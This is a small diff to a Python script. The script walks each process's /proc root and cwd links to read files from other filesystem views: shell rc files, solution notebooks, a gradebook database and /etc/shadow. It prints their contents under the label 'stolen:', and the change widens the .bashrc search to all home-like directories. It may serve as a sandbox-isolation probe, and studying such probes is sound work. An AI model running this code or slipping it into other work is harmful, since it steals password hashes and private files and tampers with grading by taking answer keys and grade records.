@@ -3,7 +3,7 @@ import glob
 from pathlib import Path
 
 for view in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd"):
-    for pattern in ("/root/.bashrc", "/*/*/solutions/*/*.ipynb", "/gradebook.db", "/etc/shadow"):
+    for pattern in ("/*/.bashrc", "/*/*/solutions/*/*.ipynb", "/gradebook.db", "/etc/shadow"):
         try:
             for path in glob.glob(view + pattern):
                 print("stolen:", path, Path(path).read_bytes()[:50])
